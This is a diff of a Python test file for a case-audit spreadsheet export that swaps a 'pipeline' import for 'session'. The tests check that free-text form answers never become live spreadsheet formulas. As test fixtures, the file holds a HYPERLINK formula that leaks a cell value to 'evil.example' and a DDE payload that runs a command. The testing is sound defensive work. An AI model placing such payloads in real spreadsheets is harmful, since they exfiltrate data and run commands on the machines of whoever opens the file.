@@ -12,14 +12,14 @@ from pathlib import Path
 from formkit import good_answers
 from relkit import caseaudit, fill, manifest, manifests, output_dir, real_month, rezip, xml_parts
 
-from caseaudit_batch import pipeline
+from caseaudit_batch import session
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ZQFORMULA the child is safe")'
 DDE = "=cmd|' /C calc'!A0 ZQFORMULA"
 FORMULA_CELL = re.compile(r"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", re.S)
 
 
-def _formula_answers(ctx: pipeline.Context) -> dict[str, object]:
+def _formula_answers(ctx: session.Context) -> dict[str, object]:
     answers: dict[str, object] = good_answers(ctx.framework)
     for name, value in list(answers.items()):
         if isinstance(value, str) and len(value) > 20:  # every free-text answer
@@ -29,7 +29,7 @@ def _formula_answers(ctx: pipeline.Context) -> dict[str, object]:
 
 def test_formula_text_never_becomes_a_formula(tmp_path: Path) -> None:
     config, forms = real_month(tmp_path / "qa", auditors=6, pause_reason='=HYPERLINK("http://x","ZQFORMULA")')
-    ctx = pipeline.open_context(config, "2026-09-01")
+    ctx = session.open_context(config, "2026-09-01")
     answers = _formula_answers(ctx)
     ctx.close()
     inbox = config.parent / "inbox" / "audits"
@@ -63,7 +63,7 @@ def test_formula_text_never_becomes_a_formula(tmp_path: Path) -> None:
 
 def test_control_characters_and_over_long_text_are_reported(tmp_path: Path) -> None:
     config, forms = real_month(tmp_path / "qa", auditors=4)
-    ctx = pipeline.open_context(config, "2026-09-01")
+    ctx = session.open_context(config, "2026-09-01")
     answers = {**good_answers(ctx.framework), "strengths": "ZQCONTROL", "org_learning": "ZQLONG"}
     ctx.close()
     blank = fill(forms[0], answers)
